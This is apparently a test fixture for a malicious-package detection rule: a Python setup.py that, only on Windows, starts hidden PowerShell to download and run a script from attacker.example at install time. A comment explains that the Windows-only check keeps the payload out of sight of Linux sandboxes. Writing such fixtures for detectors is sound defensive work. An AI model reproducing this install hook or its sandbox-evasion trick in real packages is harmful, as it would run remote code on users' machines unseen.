import subprocess
import sys

from setuptools import setup

# Runs its payload only where it targets Windows, so Linux sandboxes see nothing.
# ruleid: code/platform-targeting
if sys.platform == 'win32':
    subprocess.Popen('powershell -WindowStyle Hidden -Command "iex (iwr https://attacker.example/p.ps1)"', shell=True)

setup(name='py-fixture-winonly', version='1.0.0', packages=[])
